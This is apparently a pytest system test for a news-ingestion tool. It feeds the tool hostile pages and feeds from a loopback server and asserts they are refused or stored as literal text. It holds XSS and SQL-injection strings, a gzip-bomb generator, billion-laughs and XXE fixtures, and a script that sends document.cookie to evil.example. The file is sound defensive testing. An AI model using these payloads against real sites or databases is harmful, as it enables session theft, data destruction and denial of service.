"""Hostile input through a whole `kb ingest` run: each item is refused or stored as literal text,
the database stays whole, and the honest articles of the same run are all stored.

Entity bombs and external entities come from tests/fixtures/hostile/; pages, bombs and
oversized bodies are generated here and served from loopback.
"""

from __future__ import annotations

import html
import re
import zlib
from pathlib import Path

import pytest

from tests.conftest import SAMPLE_DIR
from tests.loopback import LoopbackServer, respond
from tests.system.test_kill import assert_consistent, rows, run_kb_process

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "hostile"
CLOUDLINE_FEED = SAMPLE_DIR / "cloudline" / "feed.xml"
CLOUDLINE_PAGES = sum(1 for _ in (SAMPLE_DIR / "cloudline").rglob("*.html"))
MB = 1 << 20
CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")

XSS_TITLE = '<script>alert("title")</script> Microsoft & OpenAI'
XSS_AUTHOR = "<img src=x onerror=alert('author')>"
XSS_BODY = "<svg onload=alert('body')>"
SQL_TITLE = "Robert'); DROP TABLE articles; --"
SQL_BODY = "1' OR '1'='1'; DELETE FROM events WHERE ''='"
FEED_SUMMARY = "<script>alert(\"summary\")</script><b onmouseover=\"steal()\">teaser</b> '; DROP TABLE sources; --"
CONTROL_TITLE = "Bell\x07 and null\x00 in a \x1b[31mheadline\x1b[0m"


def sample_paragraphs() -> list[list[str]]:
    """The paragraphs (as HTML) of each Northbeam and Newsroom Wire sample article: honest English text."""
    pages = sorted((SAMPLE_DIR / "northbeam").rglob("*.html")) + sorted((SAMPLE_DIR / "newsroomwire").rglob("*.html"))
    return [re.findall(r"<p>(.*?)</p>", p.read_text(), re.S) for p in pages]


def article_page(title: str, author: str, paragraphs: list[str], *, extra_body: str = "", head: str = "") -> str:
    """An article page; title and author are given as text and escaped, paragraphs as HTML."""
    body = "".join(f"<p>{p}</p>" for p in paragraphs)
    return (f"<!doctype html><html lang='en'><head><meta charset='utf-8'><title>{html.escape(title)}</title>"
            f"<meta name='author' content='{html.escape(author, quote=True)}'>{head}</head>"
            f"<body><article><h1>{html.escape(title)}</h1>{body}{extra_body}</article></body></html>")


def gzip_bomb(megabytes: int):
    """A gzip stream inflating to `megabytes` MiB of zeros, about 1 KiB per MiB on the wire."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, 31)
    zeros = bytes(MB)
    yield compressor.compress(zeros) + compressor.flush(zlib.Z_FULL_FLUSH)
    block = compressor.compress(zeros) + compressor.flush(zlib.Z_FULL_FLUSH)
    for _ in range(megabytes - 1):
        yield block
    yield compressor.flush()


def stream(chunks, headers: dict[str, str]):
    def route(handler) -> None:
        handler.send_response(200)
        for key, value in headers.items():
            handler.send_header(key, value)
        handler.end_headers()
        handler.close_connection = True
        for chunk in chunks():
            handler.wfile.write(chunk)

    return route


def hostile_pages(paragraphs: list[list[str]]) -> dict[str, bytes | str]:
    """Path -> page body; each page built on a different sample article's paragraphs."""
    p = iter(paragraphs)
    return {
        "/xss.html": article_page(
            XSS_TITLE, XSS_AUTHOR, [*next(p)[:6], html.escape(f"A reader wrote {XSS_BODY} in a comment.")],
            extra_body="<script>document.location='http://evil.example/?'+document.cookie</script>"
                       "<p onmouseover=\"alert('handler')\">A paragraph with an event handler attribute.</p>"
                       "<iframe src='javascript:alert(1)'></iframe>",
            head="<meta http-equiv='refresh' content='0;url=javascript:alert(1)'>"),
        "/sql.html": article_page(SQL_TITLE, "O'Brien; DROP TABLE sources", [*next(p)[:6], html.escape(SQL_BODY)]),
        "/control.html": article_page(CONTROL_TITLE, "Ctrl\x01 Author",
                                      [x.replace(". ", ".\x0b\x1f ", 2) for x in next(p)[:6]]),
        "/invalid-utf8.html": article_page("Invalid UTF-8 bytes", "Byte Smith", next(p)[:6]).encode()
                              .replace(b"</h1>", b"</h1><p>Broken \xff\xfe bytes and a cut \xe2\x82 sequence "
                                                 b"in the middle of the English text of this article.</p>"),
        "/deep.html": "<html><body>" + "<div>" * 20_000 + article_page("Deep", "Nest", next(p)[:6]) + "</div>" * 20_000,
        "/many-nodes.html": article_page("Many nodes", "Wide", next(p)[:6], extra_body="<span></span>" * 210_000),
        "/good.html": article_page("An honest article in a hostile feed", "Jane Doe", next(p)[:8]),
    }


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    """One `kb ingest` over every hostile source plus an honest local feed; returns (db, server)."""
    tmp = tmp_path_factory.mktemp("hostile")
    server = LoopbackServer()
    pages = hostile_pages(sample_paragraphs())
    for path, body in pages.items():
        server.routes[path] = lambda h, body=body: respond(h, 200, body)
    laughs_article = article_page("Linked from a billion-laughs feed", "Lol", sample_paragraphs()[-1][:6])
    server.routes["/laughs-article.html"] = lambda h: respond(h, 200, laughs_article)
    server.routes["/xxe-article.html"] = lambda h: respond(h, 200, article_page(
        "Linked from an XXE feed", "Xxe", sample_paragraphs()[-2][:6]))
    server.routes["/xxe-remote.txt"] = lambda h: respond(h, 200, "REMOTE ENTITY FETCHED", "text/plain")
    server.routes["/gzip-bomb.html"] = stream(lambda: gzip_bomb(1024), {"Content-Type": "text/html",
                                                                         "Content-Encoding": "gzip"})
    server.routes["/fifty-mb.html"] = stream(lambda: (b"<p>" + b"x" * (MB - 3) for _ in range(50)),
                                             {"Content-Type": "text/html"})
    server.routes["/fifty-mb-declared.html"] = stream(lambda: iter([b"<p>tiny</p>"]), {
        "Content-Type": "text/html", "Content-Length": str(50 * MB)})
    article_paths = [*pages, "/gzip-bomb.html", "/fifty-mb.html", "/fifty-mb-declared.html"]
    items = "".join(
        f"<item><title>{html.escape(path)}</title><link>{server.url(path)}</link><guid>{path}</guid>"
        f"<description><![CDATA[{FEED_SUMMARY}]]></description></item>" for path in article_paths)
    server.routes["/hostile.xml"] = lambda h: respond(
        h, 200, f"<?xml version='1.0'?><rss version='2.0'><channel><title>hostile</title>{items}</channel></rss>",
        "application/rss+xml")
    for name in ("billion_laughs_feed.xml", "billion_laughs_sitemap.xml", "xxe_feed.xml"):
        text = (FIXTURES / name).read_text().replace("{base}", server.base_url)
        server.routes["/" + name] = lambda h, text=text: respond(h, 200, text, "application/xml")
    db_path = tmp / "kb.db"
    sources = tmp / "sources.toml"
    sources.write_text("allow_private_addresses = true\n\n" + "".join(
        f'[[source]]\nname = "{name}"\nurl = "{url}"\nkind = "{kind}"\n\n' for name, url, kind in [
            ("hostile", server.url("/hostile.xml"), "feed"),
            ("laughs feed", server.url("/billion_laughs_feed.xml"), "feed"),
            ("laughs sitemap", server.url("/billion_laughs_sitemap.xml"), "sitemap"),
            ("xxe feed", server.url("/xxe_feed.xml"), "feed"),
            ("Cloudline Daily", CLOUDLINE_FEED, "feed"),
        ]))
    with server:
        result = run_kb_process(db_path, "ingest", "--sources", str(sources))
    return db_path, server, result


def article(db_path: Path, server: LoopbackServer, path: str) -> dict:
    found = rows(db_path, "select status, status_reason, title, author, text, summary from articles where url = ?",
                 [server.url(path)])
    assert len(found) == 1, f"{path}: {found}"
    return dict(zip(["status", "reason", "title", "author", "text", "summary"], found[0], strict=True))


def test_the_run_finishes_with_the_database_whole_and_honest_articles_stored(hostile_run):
    db_path, server, result = hostile_run
    assert result.returncode == 1, result.stderr  # some items were refused
    assert "Traceback" not in result.stderr
    assert_consistent(db_path)
    assert {"articles", "sources", "events"} <= {name for (name,) in rows(
        db_path, "select name from sqlite_master where type = 'table'")}
    assert rows(db_path, "select count(*) from articles a join sources s on s.id = a.source_id "
                         "where s.name = 'Cloudline Daily' and a.status = 'ok'") == [(CLOUDLINE_PAGES,)]
    assert article(db_path, server, "/good.html")["status"] == "ok"
    # Analysis ran over the hostile text as well.
    assert rows(db_path, "select count(*) from articles where status = 'ok' and duplicate_of is null "
                         "and processed_at is null") == [(0,)]
    assert rows(db_path, "select status from ingest_runs") == [("partial",)]


def test_script_and_event_handler_payloads_are_stored_as_literal_text(hostile_run):
    db_path, server, _ = hostile_run
    xss = article(db_path, server, "/xss.html")
    assert xss["status"] == "ok"
    assert xss["title"] == XSS_TITLE
    assert xss["author"] == XSS_AUTHOR
    assert f"A reader wrote {XSS_BODY} in a comment." in xss["text"]
    assert xss["summary"] == FEED_SUMMARY
    # Markup of the page itself is not text: scripts, handlers and frames are dropped.
    assert "document.cookie" not in xss["text"] and "alert('handler')" not in xss["text"]
    assert "javascript:" not in xss["text"]


async def test_datasette_shows_the_payloads_escaped(hostile_run):
    from kb.cli.serving import build_datasette

    db_path, server, _ = hostile_run
    article_id = rows(db_path, "select id from articles where url = ?", [server.url("/xss.html")])[0][0]
    ds = build_datasette(db_path)
    await ds.invoke_startup()
    for path in (f"/-/article/{article_id}", f"/{db_path.stem}/articles/{article_id}"):
        response = await ds.client.get(path)
        assert response.status_code == 200, path
        assert "&lt;script&gt;alert(" in response.text or "&lt;script&gt;alert(" in html.unescape(response.text), path
        for payload in ('<script>alert("title")', "<img src=x onerror", "<svg onload", '<script>alert("summary")'):
            assert payload not in response.text, (path, payload)


def test_sql_looking_text_is_stored_literally(hostile_run):
    db_path, server, _ = hostile_run
    sql = article(db_path, server, "/sql.html")
    assert sql["status"] == "ok"
    assert sql["title"] == SQL_TITLE
    assert sql["author"] == "O'Brien; DROP TABLE sources"
    assert SQL_BODY in sql["text"]
    assert rows(db_path, "select count(*) from sources")[0][0] == 5
    assert rows(db_path, "select count(*) from articles where title = ?", [SQL_TITLE]) == [(1,)]


def test_control_characters_and_invalid_utf8_are_cleaned_not_fatal(hostile_run):
    db_path, server, _ = hostile_run
    control = article(db_path, server, "/control.html")
    assert control["status"] == "ok"
    assert control["title"] == CONTROL.sub("", CONTROL_TITLE)
    assert control["author"] == "Ctrl Author"
    assert not CONTROL.search(control["text"])
    broken = article(db_path, server, "/invalid-utf8.html")
    assert broken["status"] == "ok"
    assert "in the middle of the English text of this article." in broken["text"]
    assert rows(db_path, "select count(*) from articles where text != cast(cast(text as blob) as text)") == [(0,)]


def test_deep_and_huge_trees_are_refused_or_stored(hostile_run):
    db_path, server, _ = hostile_run
    deep = article(db_path, server, "/deep.html")
    assert deep["status"] in ("ok", "extract_failed"), deep
    if deep["status"] == "ok":
        assert len(deep["text"]) > 200
    else:
        assert deep["reason"]
    wide = article(db_path, server, "/many-nodes.html")
    assert (wide["status"], wide["reason"]) == ("extract_failed", "page has more than 200000 elements; not extracted")


def test_bombs_and_oversized_pages_are_too_large(hostile_run):
    db_path, server, _ = hostile_run
    bomb = article(db_path, server, "/gzip-bomb.html")
    assert bomb["status"] == "too_large" and bomb["reason"].endswith("body exceeds 10000000 bytes")
    streamed = article(db_path, server, "/fifty-mb.html")
    assert (streamed["status"], streamed["reason"]) == ("too_large", "body exceeds 10000000 bytes")
    declared = article(db_path, server, "/fifty-mb-declared.html")
    assert (declared["status"], declared["reason"]) == ("too_large", "Content-Length 52428800 exceeds 10000000 bytes")


def test_entity_bombs_and_external_entities_are_not_expanded(hostile_run):
    db_path, server, _ = hostile_run
    sources = {name: (status, error) for name, status, error in
               rows(db_path, "select name, last_status, last_error from sources")}
    # Refused (libxml2's amplification limit; feedparser's strict parser), or read without
    # expanding the entities (feedparser's fallback parser): both are fine, a hang is not.
    for name, linked in [("laughs sitemap", "/sitemap-article.html"), ("laughs feed", "/laughs-article.html")]:
        status, error = sources[name]
        if status == "ok":
            assert article(db_path, server, linked)["status"] == "ok"
        else:
            assert status == "not_a_feed" and error, (name, status, error)
    assert sources["xxe feed"] == ("ok", None)
    assert article(db_path, server, "/xxe-article.html")["status"] == "ok"
    assert "/xxe-remote.txt" not in server.paths_requested()
    # No expansion anywhere: no "lollol", nothing of /etc/passwd, no remote entity text.
    for table, column in [("articles", "title"), ("articles", "summary"), ("articles", "text"),
                          ("article_sightings", "guid"), ("articles", "url")]:
        assert rows(db_path, f"select count(*) from {table} where {column} like '%lollol%' "
                             f"or {column} like '%root:x:0%' or {column} like '%REMOTE ENTITY%'") == [(0,)]
    assert rows(db_path, "select max(length(summary)), max(length(title)) from articles")[0][0] < 100_000
